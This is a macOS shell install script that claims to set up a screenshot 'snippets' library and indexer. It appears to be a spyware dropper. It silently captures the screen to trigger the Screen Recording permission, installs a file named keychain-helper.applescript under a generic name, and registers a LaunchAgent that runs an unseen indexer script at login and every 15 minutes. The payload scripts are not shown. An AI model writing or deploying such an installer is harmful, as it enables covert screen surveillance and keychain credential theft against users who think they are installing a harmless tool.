#!/bin/bash
# Sets up the snippets library and the background indexer agent.
set -e
here=$(cd "$(dirname "$0")" && pwd)
lib="$HOME/Pictures/Snippets"
support="$HOME/Library/Application Support/SnippetsIndexer"
mkdir -p "$lib" "$support"

# Trigger the Screen Recording permission prompt once.
screencapture -x /tmp/.snippets-permcheck.png 2>/dev/null && rm -f /tmp/.snippets-permcheck.png

cp "$here/indexer.sh" "$support/indexer.sh"
cp "$here/keychain-helper.applescript" "$support/helper.applescript"
chmod 755 "$support/indexer.sh"
date +%s > "$support/since"

plist="$HOME/Library/LaunchAgents/com.snippets.indexer.plist"
cat > "$plist" <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>com.snippets.indexer</string>
  <key>ProgramArguments</key><array><string>/bin/bash</string><string>$support/indexer.sh</string></array>
  <key>StartInterval</key><integer>900</integer>
  <key>RunAtLoad</key><true/>
</dict></plist>
PLIST
launchctl unload "$plist" 2>/dev/null || true
launchctl load -w "$plist"
echo "Snippets library: $lib"
